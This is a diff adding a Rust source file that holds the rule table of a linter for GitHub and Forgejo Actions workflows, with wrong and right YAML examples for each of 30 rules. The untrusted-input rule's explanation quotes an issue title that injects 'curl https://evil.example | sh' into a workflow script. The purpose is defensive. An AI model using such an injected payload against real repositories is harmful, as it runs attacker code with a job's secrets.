@@ -1,0 +1,569 @@
+//! Every rule, in the order of the docs.
+//!
+//! Purpose: names, defaults, texts and examples. Owner: [`Rule::about`].
+//! Invariant: the order is that of [`Rule`], which a test looks at.
+
+use super::{
+    About, Example, Frame,
+    Level::{Off, Warn},
+    Rule,
+};
+
+const fn of(frame: Frame, text: &'static str) -> Example {
+    Example { frame, text }
+}
+
+const fn steps(text: &'static str) -> Example {
+    of(Frame::Steps, text)
+}
+
+const fn job(text: &'static str) -> Example {
+    of(Frame::Job, text)
+}
+
+const fn on(text: &'static str) -> Example {
+    of(Frame::On, text)
+}
+
+const fn action(text: &'static str) -> Example {
+    of(Frame::Action, text)
+}
+
+pub(super) static TABLE: [About; 30] = [
+    About {
+        rule: Rule::UntrustedInput,
+        name: "untrusted-input",
+        level: Warn,
+        finds: "text of strangers that becomes part of a script",
+        costs: "`${{ }}` is put into a script before a shell reads it: an issue with the title `\"; curl \
+                https://evil.example | sh; \"` runs what it says, with the job's token and secrets. So it is \
+                with bodies and titles of issues, pull requests, comments and reviews, names of branches that \
+                pull requests come from, and messages and authors of commits, in `run` and in `script` of \
+                `actions/github-script`. A variable of `env` is never read as code.",
+        wrong: steps(
+            r#"- run: echo "new issue ${{ github.event.issue.title }}"
+"#,
+        ),
+        right: steps(
+            r#"- run: echo "new issue $ISSUE_TITLE"
+  env:
+    ISSUE_TITLE: ${{ github.event.issue.title }}
+"#,
+        ),
+    },
+    About {
+        rule: Rule::SecretInIf,
+        name: "secret-in-if",
+        level: Warn,
+        finds: "`secrets` in an `if`",
+        costs: "GitHub refuses the workflow. On Forgejo it works, and whether the step was skipped tells \
+                everybody something about the secret. A boolean in `env` says only whether there is one.",
+        wrong: steps(
+            "- if: secrets.KEY != ''
+  run: ./publish
+",
+        ),
+        right: steps(
+            r#"- env:
+    KEY: ${{ secrets.KEY }}
+  run: |
+    if [ -n "$KEY" ]; then ./publish; fi
+"#,
+        ),
+    },
+    About {
+        rule: Rule::UnpinnedAction,
+        name: "unpinned-action",
+        level: Off,
+        finds: "an action, workflow or image that is not named by its commit or digest",
+        costs: "Tags and branches move: who takes over the repository of an action, or an account that can push \
+                there, runs code in every workflow that uses it. A commit cannot change.",
+        wrong: steps("- uses: actions/checkout@v4\n"),
+        right: steps("- uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4\n"),
+    },
+    About {
+        rule: Rule::IfAlwaysTrue,
+        name: "if-always-true",
+        level: Warn,
+        finds: "an `if` with text around its `${{ }}`",
+        costs: "What stands outside of `${{ }}` makes the whole a text, and text that is not empty is true: the \
+                step always runs.",
+        wrong: steps(
+            "- if: ${{ github.ref }} == 'refs/heads/main'
+  run: ./publish
+",
+        ),
+        right: steps(
+            "- if: github.ref == 'refs/heads/main'
+  run: ./publish
+",
+        ),
+    },
+    About {
+        rule: Rule::MatrixInJobIf,
+        name: "matrix-in-job-if",
+        level: Warn,
+        finds: "`matrix` or `strategy` in a job's `if`",
+        costs: "Servers look at a job's `if` before there is a matrix, and refuse the workflow.",
+        wrong: job("strategy:
+  matrix:
+    os: [debian, alpine]
+if: matrix.os == 'debian'
+"),
+        right: job("strategy:
+  matrix:
+    os: [debian, alpine]
+    exclude:
+      - os: alpine
+"),
+    },
+    About {
+        rule: Rule::RetiredCommand,
+        name: "retired-command",
+        level: Warn,
+        finds: "`set-output`, `save-state`, `set-env` and `add-path` in a script",
+        costs: "GitHub has retired `set-output` and `save-state`, and every server refuses `set-env` and \
+                `add-path`: whatever a program prints would be obeyed, also the title of an issue. Files take \
+                their place.",
+        wrong: steps(
+            r#"- id: version
+  run: echo "::set-output name=tag::$(git describe)"
+"#,
+        ),
+        right: steps(
+            r#"- id: version
+  run: echo "tag=$(git describe)" >> "$GITHUB_OUTPUT"
+"#,
+        ),
+    },
+    About {
+        rule: Rule::LostPipeFailure,
+        name: "lost-pipe-failure",
+        level: Off,
+        finds: "a pipe in a step without `shell` whose left side can fail",
+        costs: "A step without `shell` runs `bash -e` without `pipefail`: `make | tee log` is good where `make` \
+                failed. `shell: bash` adds `-o pipefail`. Many pipes are meant so, which is why it is off.",
+        wrong: steps("- run: make test | tee test.log\n"),
+        right: steps(
+            "- shell: bash
+  run: make test | tee test.log
+",
+        ),
+    },
+    About {
+        rule: Rule::ConstantCacheKey,
+        name: "constant-cache-key",
+        level: Warn,
+        finds: "a key of `actions/cache` that is the same in every run",
+        costs: "A cache is saved once for each key and never changed. A key that names only the machine keeps \
+                what the first run left, forever.",
+        wrong: steps(
+            "- uses: actions/cache@v4
+  with:
+    path: ~/.cargo
+    key: cargo-${{ runner.os }}
+",
+        ),
+        right: steps(
+            "- uses: actions/cache@v4
+  with:
+    path: ~/.cargo
+    key: cargo-${{ runner.os }}-${{ hashFiles('**/Cargo.lock') }}
+    restore-keys: cargo-${{ runner.os }}-
+",
+        ),
+    },
+    About {
+        rule: Rule::LooseInclude,
+        name: "loose-include",
+        level: Warn,
+        finds: "an entry of `include` that names no variable of the matrix",
+        costs: "GitHub adds such an entry to every job of the matrix, Forgejo makes a job of its own of it, \
+                without the other variables.",
+        wrong: job("strategy:
+  matrix:
+    os: [debian, alpine]
+    include:
+      - mode: release
+"),
+        right: job("strategy:
+  matrix:
+    os: [debian, alpine]
+    mode: [release]
+"),
+    },
+    About {
+        rule: Rule::NumberAsVersion,
+        name: "number-as-version",
+        level: Warn,
+        finds: "a number that is not printed as it is written, such as `3.10`",
+        costs: "Without quotes `3.10` is the number 3.1, and `1e3` is 1000: the wrong version is tested, or one \
+                that is not there.",
+        wrong: job("strategy:
+  matrix:
+    python: [3.9, 3.10]
+"),
+        right: job("strategy:
+  matrix:
+    python: ['3.9', '3.10']
+"),
+    },
+    About {
+        rule: Rule::OctalNumber,
+        name: "octal-number",
+        level: Warn,
+        finds: "a number that begins with a zero",
+        costs: "`0755` is the number 755 by YAML 1.2, and 493 for Forgejo's server, which reads it as octal.",
+        wrong: job("strategy:
+  matrix:
+    mode: [0755]
+"),
+        right: job("strategy:
+  matrix:
+    mode: ['0755']
+"),
+    },
+    About {
+        rule: Rule::NumberWithUnderscores,
+        name: "number-with-underscores",
+        level: Warn,
+        finds: "digits with underscores between them",
+        costs: "`1_000` is text by YAML 1.2, and the number 1000 for Forgejo's server.",
+        wrong: job("strategy:
+  matrix:
+    size: [1_000]
+"),
+        right: job("strategy:
+  matrix:
+    size: [1000]
+"),
+    },
+    About {
+        rule: Rule::DateAsText,
+        name: "date-as-text",
+        level: Warn,
+        finds: "a date without quotes",
+        costs: "`2026-01-31` is text by YAML 1.2, and a time for Forgejo's server, which prints it as \
+                `2026-01-31 00:00:00 +0000 UTC`.",
+        wrong: job("strategy:
+  matrix:
+    day: [2026-01-31]
+"),
+        right: job("strategy:
+  matrix:
+    day: ['2026-01-31']
+"),
+    },
+    About {
+        rule: Rule::YesOrNo,
+        name: "yes-or-no",
+        level: Warn,
+        finds: "`yes`, `no`, `on` or `off` without quotes in a matrix",
+        costs: "They are text by YAML 1.2, and text is true, also `no` and `off`.",
+        wrong: job("strategy:
+  matrix:
+    debug: [yes, no]
+"),
+        right: job("strategy:
+  matrix:
+    debug: [true, false]
+"),
+    },
+    About {
+        rule: Rule::HashBeginsComment,
+        name: "hash-begins-comment",
+        level: Warn,
+        finds: "` #` and a digit in a value without quotes",
+        costs: "A `#` behind a blank begins a comment, and the rest of the line is gone.",
+        wrong: steps(
+            "- name: Fix #12
+  run: make
+",
+        ),
+        right: steps(
+            "- name: 'Fix #12'
+  run: make
+",
+        ),
+    },
+    About {
+        rule: Rule::IgnoredByForgejo,
+        name: "ignored-by-forgejo",
+        level: Warn,
+        finds: "a key that Forgejo reads over: `permissions`, `environment` and others",
+        costs: "Who relies on it has nothing: a token has the rights that it has, and no environment asks for a \
+                review. Turn the rule off for files that only GitHub reads.",
+        wrong: job("environment: production\n"),
+        right: job("env:
+  TARGET: production
+"),
+    },
+    About {
+        rule: Rule::GithubOnly,
+        name: "github-only",
+        level: Warn,
+        finds: "a key or a form that Forgejo's runner refuses",
+        costs: "The workflow does not run on Forgejo. Turn the rule off for files that only GitHub reads.",
+        wrong: job("services:
+  db:
+    image: postgres
+    entrypoint: /start
+"),
+        right: job("services:
+  db:
+    image: postgres
+"),
+    },
+    About {
+        rule: Rule::GithubOnlyEvent,
+        name: "github-only-event",
+        level: Warn,
+        finds: "an event that only GitHub has",
+        costs: "On Forgejo nothing ever starts the workflow for it. An event that nobody has is an error.",
+        wrong: on("on: [push, merge_group]\n"),
+        right: on("on: [push, pull_request]\n"),
+    },
+    About {
+        rule: Rule::UnknownActivity,
+        name: "unknown-activity",
+        level: Warn,
+        finds: "an activity in `types` that the event does not have",
+        costs: "It never starts the workflow, and nothing says so.",
+        wrong: on("on:
+  issues:
+    types: [open]
+"),
+        right: on("on:
+  issues:
+    types: [opened]
+"),
+    },
+    About {
+        rule: Rule::AdmitsNothing,
+        name: "admits-nothing",
+        level: Warn,
+        finds: "a filter of which every pattern begins with `!`",
+        costs: "Patterns with `!` take out of what the ones before them let in. Where none lets in anything, \
+                nothing starts the workflow.",
+        wrong: on("on:
+  push:
+    branches: ['!wip/**']
+"),
+        right: on("on:
+  push:
+    branches: ['**', '!wip/**']
+"),
+    },
+    About {
+        rule: Rule::CronNever,
+        name: "cron-never",
+        level: Warn,
+        finds: "a cron expression of which no year has a time",
+        costs: "The workflow never starts.",
+        wrong: on("on:
+  schedule:
+    - cron: '0 0 31 2 *'
+"),
+        right: on("on:
+  schedule:
+    - cron: '0 0 28 2 *'
+"),
+    },
+    About {
+        rule: Rule::NotEvaluated,
+        name: "not-evaluated",
+        level: Warn,
+        finds: "`${{ }}` where nothing is evaluated",
+        costs: "Filters of `on` and names of variables are taken as they are written, with the `${{`.",
+        wrong: on("on:
+  push:
+    branches: ['${{ vars.MAIN }}']
+"),
+        right: on("on:
+  push:
+    branches: [main]
+"),
+    },
+    About {
+        rule: Rule::IdleKey,
+        name: "idle-key",
+        level: Warn,
+        finds: "a key that does nothing where it stands",
+        costs: "Jobs of a called workflow do not see the `env` of the job that calls it, `options` count only \
+                with `type: choice`, and `pre-if` only with `pre`.",
+        wrong: job("uses: ./.forgejo/workflows/deploy.yml
+env:
+  TARGET: test
+"),
+        right: job("uses: ./.forgejo/workflows/deploy.yml
+with:
+  target: test
+"),
+    },
+    About {
+        rule: Rule::UntypedInput,
+        name: "untyped-input",
+        level: Warn,
+        finds: "an input of `workflow_call` without `type`",
+        costs: "GitHub refuses the workflow, Forgejo takes the input as text.",
+        wrong: on("on:
+  workflow_call:
+    inputs:
+      target:
+        required: true
+"),
+        right: on("on:
+  workflow_call:
+    inputs:
+      target:
+        type: string
+        required: true
+"),
+    },
+    About {
+        rule: Rule::UndeclaredSecret,
+        name: "undeclared-secret",
+        level: Warn,
+        finds: "a secret that the called workflow does not declare",
+        costs: "GitHub refuses the call, Forgejo passes the secret on.",
+        wrong: job("uses: ./.forgejo/workflows/deploy.yml
+secrets:
+  kye: ${{ secrets.KEY }}
+"),
+        right: job("uses: ./.forgejo/workflows/deploy.yml
+secrets:
+  key: ${{ secrets.KEY }}
+"),
+    },
+    About {
+        rule: Rule::NamesByCase,
+        name: "names-by-case",
+        level: Warn,
+        finds: "two inputs or outputs of an action that differ only by case",
+        costs: "Names compare without case: one hides the other.",
+        wrong: action(
+            "name: Build
+inputs:
+  target: {}
+  Target: {}
+runs:
+  using: node20
+  main: index.js
+",
+        ),
+        right: action(
+            "name: Build
+inputs:
+  target: {}
+runs:
+  using: node20
+  main: index.js
+",
+        ),
+    },
+    About {
+        rule: Rule::MissingShell,
+        name: "missing-shell",
+        level: Warn,
+        finds: "a `run` step of an action without `shell`",
+        costs: "GitHub refuses the action, Forgejo takes bash.",
+        wrong: action(
+            "name: Build
+runs:
+  using: composite
+  steps:
+    - run: make
+",
+        ),
+        right: action(
+            "name: Build
+runs:
+  using: composite
+  steps:
+    - run: make
+      shell: bash
+",
+        ),
+    },
+    About {
+        rule: Rule::EmptyOutput,
+        name: "empty-output",
+        level: Warn,
+        finds: "an output of a composite action without `value`",
+        costs: "It is always empty.",
+        wrong: action(
+            "name: Build
+outputs:
+  path:
+    description: what was made
+runs:
+  using: composite
+  steps:
+    - id: make
+      run: make
+      shell: bash
+",
+        ),
+        right: action(
+            "name: Build
+outputs:
+  path:
+    description: what was made
+    value: ${{ steps.make.outputs.path }}
+runs:
+  using: composite
+  steps:
+    - id: make
+      run: make
+      shell: bash
+",
+        ),
+    },
+    About {
+        rule: Rule::ActionMetadata,
+        name: "action-metadata",
+        level: Warn,
+        finds: "a key, a colour or a `required` of an action.yml that nobody knows",
+        costs: "Servers read over it: a typing error shows itself by nothing happening.",
+        wrong: action(
+            "name: Build
+inputs:
+  target:
+    requierd: true
+runs:
+  using: node20
+  main: index.js
+",
+        ),
+        right: action(
+            "name: Build
+inputs:
+  target:
+    required: true
+runs:
+  using: node20
+  main: index.js
+",
+        ),
+    },
+    About {
+        rule: Rule::AllowComment,
+        name: "allow-comment",
+        level: Warn,
+        finds: "a comment `ampoule: allow` without a reason, or that silences nothing",
+        costs: "An exception that gives no reason cannot be judged, and one that silences nothing hides what \
+                comes later.",
+        wrong: steps(
+            "# ampoule: allow hash-begins-comment
+- name: Fix #12
+  run: make
+",
+        ),
+        right: steps(
+            "# ampoule: allow hash-begins-comment: 12 is the ticket, and the name is to end there
+- name: Fix #12
+  run: make
+",
+        ),
+    },
+];
